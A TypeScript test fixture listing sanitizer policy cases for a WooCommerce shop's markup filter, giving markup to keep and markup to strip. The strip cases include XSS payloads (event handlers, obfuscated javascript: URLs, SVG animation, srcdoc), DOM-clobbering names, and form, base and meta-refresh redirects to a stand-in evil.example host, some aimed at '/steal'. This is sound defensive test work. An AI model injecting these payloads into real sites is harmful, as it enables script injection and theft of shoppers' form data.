// The markup policy's cases (policy.ts), one per rule: what the door must keep and what it must
// remove. Shared by the DOMPurify door's tests (sanitizer.test.ts, jsdom), the native policy pass's
// (native-policy.test.ts, jsdom) and both engines in Chromium (e2e/markup-door-engines.spec.ts), so
// the two engines are held to one policy (issue 30). Where jsdom and a browser differ (a form
// clobbered by its fields: jsdom has no form named properties, so DOMPurify there does not see it
// and unwraps the form; in a browser it removes the form whole), the browser's outcome is written
// and CLOBBERED_FORM_RULES names the cases.

/** Rules whose case holds a form clobbered by its fields. */
export const CLOBBERED_FORM_RULES = new Set(['ids and names that clobber document properties', 'the clobbering form that hid its handlers from the old sanitiser (issue 10)']);

/** [rule, markup]: markup WooCommerce prints, kept exactly. */
export const KEPT_CASES: Array<[string, string]> = [
  ['price markup', '<span class="woocommerce-Price-amount amount"><bdi><span class="woocommerce-Price-currencySymbol">฿</span>1,250.00</bdi></span>'],
  ['a sale price', '<del aria-hidden="true"><span class="amount">฿60.00</span></del> <ins><span class="amount">฿45.00</span></ins>'],
  [
    'a mini-cart line',
    '<li class="woocommerce-mini-cart-item mini_cart_item"><a href="/cart/?remove_item=abc&amp;_wpnonce=1" class="remove remove_from_cart_button" aria-label="ลบ ขวด" data-product_id="12" data-cart_item_key="abc" data-product_sku="RB-10">×</a><a href="/product/rb-10/"><img width="300" height="300" src="/img/rb.png" class="attachment-woocommerce_thumbnail" alt="" srcset="/img/rb.png 300w" sizes="(max-width: 300px) 100vw, 300px">ขวด</a><span class="quantity">1 × <span class="amount">฿45.00</span></span></li>',
  ],
  ['quantity inputs and buttons', '<div class="quantity"><input type="number" id="quantity_abc" class="input-text qty text" name="cart[abc][qty]" value="2" aria-label="จำนวน" min="0" max="50" step="1" inputmode="numeric" autocomplete="off"><button type="button" class="quantity-increment" data-key="abc">+</button></div>'],
  ['a table', '<table class="shop_table"><thead><tr><th>สินค้า</th></tr></thead><tbody><tr><td data-title="ราคา">฿45.00</td></tr></tbody></table>'],
  ['an SVG icon', '<svg viewBox="0 0 24 24" aria-hidden="true"><path d="M0 0h24v24H0z"></path></svg>'],
  ['mail, phone and inline image links', '<a href="mailto:shop@example.th">m</a><a href="tel:+6621234567">t</a><img src="data:image/png;base64,AAAA">'],
  ['style attributes', '<p style="display:none">x</p><span style="width: 40%">y</span>'],
  ['ids and names a Thai shop uses (ตลาด is "market")', '<a id="talatnam" name="talat2026">t</a>'],
];

/** [rule, markup, what the door leaves]. */
export const REMOVED_CASES: Array<[string, string, string]> = [
  ['a declarative shadow root, open or closed, with what it holds', '<div class="a"><template shadowrootmode="open"><a href="ftp://x/" style="position:fixed">x</a></template>a</div><div class="b"><template ShadowRootMode="closed"><form action="https://evil.example/"><input></form></template>b</div>', '<div class="a">a</div><div class="b">b</div>'],
  ['SVG <discard>, which removes the element it points at', '<svg><discard href="#place_order"></discard><path d="M0 0h1"></path></svg>', '<svg><path d="M0 0h1"></path></svg>'],
  ['script-like elements', '<b>a</b><script>alert(1)</script><iframe src="/x"></iframe><object data="/x"></object><embed src="/x">', '<b>a</b>'],
  ['inline event handlers', '<img src="x" onerror="alert(1)"><b onmouseover="alert(2)">b</b>', '<img src="x"><b>b</b>'],
  ['javascript: URLs', '<a href="javascript:alert(1)">a</a>', '<a>a</a>'],
  ['a tab inside the scheme', '<a href="jav&#x09;ascript:alert(1)">a</a>', '<a>a</a>'],
  ['a newline inside the scheme', '<a href="java&#x0a;script:alert(1)">a</a>', '<a>a</a>'],
  ['a leading control character', '<a href="&#x01;javascript:alert(1)">a</a>', '<a>a</a>'],
  ['upper case', '<a href="JAVASCRIPT:alert(1)">a</a>', '<a>a</a>'],
  ['a data: document', '<a href="data:text/html,<script>alert(1)</script>">a</a>', '<a>a</a>'],
  ['data: media that is not an <img>', '<video src="data:video/mp4;base64,AAAA"></video><img src="data:text/html;base64,AAAA">', '<video></video><img>'],
  ['other schemes', '<a href="vbscript:msgbox(1)">v</a><a href="ftp://x/">f</a><a href="sms:1">s</a>', '<a>v</a><a>f</a><a>s</a>'],
  ['an SVG xlink:href to script', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><a><text>x</text></a></svg>'],
  ['SVG animation rewriting an href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate><set attributeName="href" to="javascript:alert(1)"></set><text>x</text></a></svg>', '<svg><a><text>x</text></a></svg>'],
  ['MathML, whole', '<math><mi>x</mi><mtext><img src=x onerror=alert(1)></mtext></math><b>b</b>', '<b>b</b>'],
  ['<style> elements and their rules', '<style>body{display:none}</style><svg><style>*{color:red}</style></svg><b>b</b>', '<svg></svg><b>b</b>'],
  ['<base>, <meta> and <link>', '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><b>b</b>', '<b>b</b>'],
  // An inert parse reads <noscript> content as markup, which is then cleaned like the rest.
  ['<template> and <noscript>', '<template><img src=x onerror=alert(1)></template><noscript><b onclick="alert(1)">n</b></noscript><i>i</i>', '<b>n</b><i>i</i>'],
  ['form-hijacking attributes', '<button form="checkout" formaction="https://evil.example/" formmethod="post" formtarget="_top" formenctype="text/plain" formnovalidate>b</button>', '<button>b</button>'],
  ['forms a caller did not name, keeping their fields', '<form action="https://evil.example/"><input name="q"><button>b</button></form>', '<input name="q"><button>b</button>'],
  ['srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe><b srcdoc="x">b</b>', '<b>b</b>'],
  ['ids and names that clobber document properties', '<img name="cookie"><a id="defaultView">a</a><img name="querySelectorAll"><form><input name="attributes"></form>', '<img><a>a</a><img>'],
  ['ids and names of Talat and of the globals the widgets read', '<div id="talat-config">{}</div><a id="wpcf7">w</a><img name="wc_add_to_cart_params"><i id="TALAT-x">t</i><b name="checkout">c</b><u id="Talat">u</u><s id="talat_x">s</s>', '<div>{}</div><a>w</a><img><i>t</i><b>c</b><u>u</u><s>s</s>'],
  ['styles that lift an element over the page', '<a href="/x" style="position:fixed;inset:0">a</a><b style="position: absolute">b</b><i style="z-index:9">i</i><u style="POSITION : sticky">u</u>', '<a href="/x">a</a><b>b</b><i>i</i><u>u</u>'],
  ['data-talat attributes', '<div data-talat-widget="live-search" data-talat-mounted="cart" data-product_id="12">d</div>', '<div data-product_id="12">d</div>'],
];

/** [rule, markup, forms the caller names, what the door leaves]. */
export const FORM_CASES: Array<[string, string, string[], string]> = [
  ['a named form, with its fields and a same-site action', '<form class="woocommerce-cart-form" action="/cart/" method="post"><input type="hidden" name="woocommerce-cart-nonce" value="n"><button type="submit" name="update_cart" value="อัปเดต">อัปเดต</button></form>', ['woocommerce-cart-form'], '<form class="woocommerce-cart-form" action="/cart/" method="post"><input type="hidden" name="woocommerce-cart-nonce" value="n"><button type="submit" name="update_cart" value="อัปเดต">อัปเดต</button></form>'],
  ['every form of one call judged on its own classes', '<form class="woocommerce-cart-form"><input name="a"></form><form class="evil"><input name="b"></form>', ['woocommerce-cart-form'], '<form class="woocommerce-cart-form"><input name="a"></form><input name="b">'],
  ['the other order', '<form class="evil"><input name="b"></form><form class="woocommerce-cart-form"><input name="a"></form>', ['woocommerce-cart-form'], '<input name="b"><form class="woocommerce-cart-form"><input name="a"></form>'],
  ['no names, no form', '<form class="woocommerce-cart-form"><input name="a"></form>', [], '<input name="a">'],
  ['a form dressed as the checkout form, even with a named class', '<form class="woocommerce-cart-form checkout" name="x"><input name="a"></form>', ['woocommerce-cart-form'], '<input name="a">'],
  ['the checkout class first', '<form class="woocommerce-checkout woocommerce-cart-form"><input name="a"></form>', ['woocommerce-cart-form'], '<input name="a">'],
  ['a named form whose action points at another site loses that action', '<form class="woocommerce-cart-form" action="https://evil.example/steal"><input name="q"></form>', ['woocommerce-cart-form'], '<form class="woocommerce-cart-form"><input name="q"></form>'],
  ['the clobbering form that hid its handlers from the old sanitiser (issue 10)', '<form onmouseover="alert(1)" onsubmit="alert(2)"><input name="attributes"><input name="removeAttribute"></form><b>b</b>', [], '<b>b</b>'],
];
